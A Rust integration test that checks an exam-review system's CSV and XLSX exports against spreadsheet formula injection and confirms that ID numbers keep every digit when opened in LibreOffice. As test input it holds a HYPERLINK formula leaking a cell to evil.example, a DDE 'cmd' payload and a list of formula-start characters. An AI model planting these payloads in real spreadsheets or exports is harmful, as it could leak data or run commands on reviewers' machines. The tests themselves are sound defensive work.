//! Exports opened by a double click: formulas from roster names and reviewer comments stay
//! text, and 身份证号 and 报名号 keep every digit, read back through LibreOffice itself.

use std::path::Path;
use std::process::Command;

use calamine::{Data, Reader, Xlsx, open_workbook};
use indicatif::ProgressBar;

use crate::export::{decided_with, export};
use crate::export_files::{raw_csv, read_csv, read_xlsx};
use crate::helpers::{Backend, TestApp, on_both_databases};
use crate::portal_client::{LI_HUA, LI_MING};
use crate::review_client::{ADMIN, review_app, staff};

on_both_databases!(hostile_cells_stay_text_and_ids_keep_every_digit);

/// 李明's name in the corrected roster: a link that would send the next cell away.
const HOSTILE_NAME: &str = r#"=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")"#;
/// The reviewer's comment on 李华's approval: the classic DDE command.
const HOSTILE_COMMENT: &str = "+cmd|' /C calc'!A0";
/// A new candidate: a name that is a function call, an ID number that ends in X.
const AT_NAME: &str = "@SUM(1,2)";
const X_ID: &str = "42010220000106005X";
/// 李华's corrected 报名号: a leading zero a number would drop.
const ZERO_REGISTRATION: &str = "0023420100000002";

/// What a spreadsheet takes for the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// After the decisions the roster is corrected: 李明's name, 李华's 报名号, one more
/// candidate. The import keeps statuses and decisions.
async fn hostile_roster(app: &TestApp) {
    let demo = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("config/demo-roster.csv"),
    )
    .unwrap();
    let mut rows = raw_csv(&demo);
    let header = rows.remove(0);
    let row = |id: &str| rows.iter().find(|r| r[1] == id).unwrap().clone();
    let mut li_ming = row(LI_MING.id_number);
    li_ming[2] = HOSTILE_NAME.to_string();
    let mut li_hua = row(LI_HUA.id_number);
    li_hua[0] = ZERO_REGISTRATION.to_string();
    let mut new = li_hua.clone();
    new[0] = "2342010000099".to_string();
    new[1] = X_ID.to_string();
    new[2] = AT_NAME.to_string();
    new[3] = "x@example.com".to_string();
    let mut roster = csv::Writer::from_writer(Vec::new());
    for record in [header, li_ming, li_hua, new] {
        roster.write_record(record).unwrap();
    }
    let roster = shenhe::roster::from_bytes(roster.into_inner().unwrap()).unwrap();
    let exam = app.db().current_exam().await.unwrap().unwrap();
    let report =
        shenhe::import::import_roster(app.db(), &exam, roster, false, ProgressBar::hidden())
            .await
            .unwrap();
    assert_eq!(
        (report.created, report.updated, report.refused),
        (1, 2, 0),
        "{report}"
    );
}

async fn hostile_cells_stay_text_and_ids_keep_every_digit(backend: Backend) {
    let app = review_app(backend).await;
    decided_with(&app, Some(HOSTILE_COMMENT)).await;
    hostile_roster(&app).await;
    let admin = staff(&app, ADMIN.0).await;

    // The API, the page and the command line write the same bytes.
    let by_api = export(&admin, "format=csv").await.expect(200);
    let by_page = admin
        .get("/admin/results/export?exam=&status=all&format=csv&encoding=utf-8")
        .await
        .expect(200);
    assert_eq!(by_page.bytes, by_api.bytes);
    assert_eq!(by_cli(&app, "utf-8"), by_api.bytes);
    let gbk = export(&admin, "format=csv&encoding=gbk").await.expect(200);
    assert_eq!(by_cli(&app, "gbk"), gbk.bytes);
    let utf8 = by_api.text().strip_prefix('\u{feff}').unwrap().to_string();
    let (gbk_text, _, bad) = encoding_rs::GBK.decode(&gbk.bytes);
    assert!(!bad, "GBK bytes");
    assert_eq!(gbk_text, utf8);

    // Hostile text gets a leading quote; the ID columns are text formulas.
    let raw = raw_csv(&utf8);
    let raw_row = |id: &str| {
        let formula = format!("=\"{id}\"");
        raw.iter().find(|r| r[1] == formula).unwrap().clone()
    };
    assert_eq!(raw_row(LI_MING.id_number)[2], format!("'{HOSTILE_NAME}"));
    assert_eq!(raw_row(LI_HUA.id_number)[5], format!("'{HOSTILE_COMMENT}"));
    assert_eq!(
        raw_row(LI_HUA.id_number)[0],
        format!("=\"{ZERO_REGISTRATION}\"")
    );
    assert_eq!(raw_row(X_ID)[2], format!("'{AT_NAME}"));
    for row in &raw[1..] {
        for (column, cell) in row.iter().enumerate() {
            if column < 2 {
                assert!(cell.starts_with("=\"") && cell.ends_with('"'), "{row:?}");
            } else {
                assert!(!cell.starts_with(FORMULA_STARTS), "{row:?}");
            }
        }
    }

    // The workbook holds the text as it is, every cell a string, no formula anywhere.
    let xlsx = export(&admin, "format=xlsx").await.expect(200);
    let cells = read_xlsx(&xlsx.bytes);
    let shown = read_csv(&utf8);
    let li_ming = cells
        .iter()
        .position(|r| r[1] == LI_MING.id_number)
        .unwrap();
    assert_eq!(cells[li_ming][2], HOSTILE_NAME);
    assert_eq!(cells.len(), shown.len());
    let dir = app.test_db.dir.path();
    std::fs::write(dir.join("results.xlsx"), &xlsx.bytes).unwrap();
    let mut workbook: Xlsx<_> = open_workbook(dir.join("results.xlsx")).unwrap();
    let formulas = workbook.worksheet_formula("审核结果").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));

    // LibreOffice opens the CSV the way a double click does and saves what it shows.
    let opened = libreoffice_reads(dir, &by_api.bytes);
    let find = |id: &str| {
        let row = (0..opened.height())
            .find(|&r| opened.get((r, 1)) == Some(&Data::String(id.to_string())))
            .unwrap_or_else(|| panic!("{id} lost its digits: {opened:?}"));
        (0..8)
            .map(|c| opened.get((row, c)).cloned().unwrap_or_default())
            .collect::<Vec<Data>>()
    };
    let text = |s: String| Data::String(s);
    assert_eq!(find(LI_MING.id_number)[2], text(format!("'{HOSTILE_NAME}")));
    assert_eq!(find(LI_HUA.id_number)[0], text(ZERO_REGISTRATION.into()));
    assert_eq!(
        find(LI_HUA.id_number)[5],
        text(format!("'{HOSTILE_COMMENT}"))
    );
    assert_eq!(find(X_ID)[2], text(format!("'{AT_NAME}")));
    // Every row, every digit: what LibreOffice shows is what the workbook export holds.
    assert_eq!(opened.height(), cells.len());
    for (r, row) in cells.iter().enumerate().skip(1) {
        for (column, cell) in row.iter().enumerate().take(2) {
            assert_eq!(opened.get((r, column)), Some(&text(cell.clone())));
        }
    }

    // The page claims only what is true, and steers to the workbook.
    let page = admin.get("/admin/results").await.expect(200).text();
    assert!(!page.contains("可直接打开"), "{page}");
    assert!(page.contains("请选择 Excel 工作簿（.xlsx）"), "{page}");
}

/// `shenhe export` into a file, read back.
fn by_cli(app: &TestApp, encoding: &str) -> Vec<u8> {
    let file = app.test_db.dir.path().join(format!("cli-{encoding}.csv"));
    let output = Command::new(env!("CARGO_BIN_EXE_shenhe"))
        .args(["export", "--encoding", encoding, "--output"])
        .arg(&file)
        .env("SHENHE_DATA_DIR", app.test_db.dir.path())
        .env("SHENHE_DATABASE_URL", &app.test_db.url)
        .env("SHENHE_STORAGE_URL", app.test_db.storage_url())
        .env("SHENHE_LOG", "warn")
        .output()
        .expect("running shenhe");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    std::fs::read(&file).unwrap()
}

/// The UTF-8 CSV opened by LibreOffice Calc (comma-separated, `"` quotes, UTF-8, from line
/// 1, its other import settings as they come) and saved as a workbook; the first sheet's
/// values. Debian package `libreoffice-calc`; a machine without it fails here.
fn libreoffice_reads(dir: &Path, csv: &[u8]) -> calamine::Range<Data> {
    let input = dir.join("opened.csv");
    std::fs::write(&input, csv).unwrap();
    let profile = format!("file://{}", dir.join("libreoffice-profile").display());
    let output = Command::new("soffice")
        .arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--norestore", "--infilter=CSV:44,34,76,1"])
        .args(["--convert-to", "xlsx", "--outdir"])
        .arg(dir.join("libreoffice"))
        .arg(&input)
        .output()
        .expect("running soffice (install the Debian package libreoffice-calc)");
    let converted = dir.join("libreoffice/opened.xlsx");
    assert!(
        output.status.success() && converted.is_file(),
        "soffice: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut workbook: Xlsx<_> = open_workbook(converted).unwrap();
    workbook.worksheet_range_at(0).unwrap().unwrap()
}
